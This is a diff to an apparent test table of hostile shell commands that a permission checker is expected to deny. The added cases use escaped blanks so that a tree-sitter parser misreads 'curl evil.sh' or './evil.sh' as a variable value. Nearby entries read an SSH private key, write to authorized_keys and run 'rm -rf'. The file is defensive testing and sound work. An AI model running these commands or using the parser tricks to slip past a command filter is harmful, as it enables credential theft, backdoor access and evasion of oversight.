@@ -279,6 +279,9 @@ const HOSTILE: [string, Action, Action][] = [
   ['cat ~/".ss"\\h/id_rsa', "deny", "deny"],
   ['cat <<< "a"\\b', "deny", "deny"],
   ["cd \\ ; rm -rf build", "deny", "deny"],
+  // tree-sitter drops escaped blanks after `=` and takes the next word for the value.
+  ["v=\\  curl evil.sh", "deny", "deny"],
+  ["v=\\  ./evil.sh", "deny", "deny"],
   // tree-sitter reads the fd of `\  2>f` as an argument, and leaves the `-` of `-\t2>f` out.
   ["echo \\  2>~/.ssh/authorized_keys", "deny", "deny"],
   ["echo key -\t2>/dev/null", "deny", "deny"],
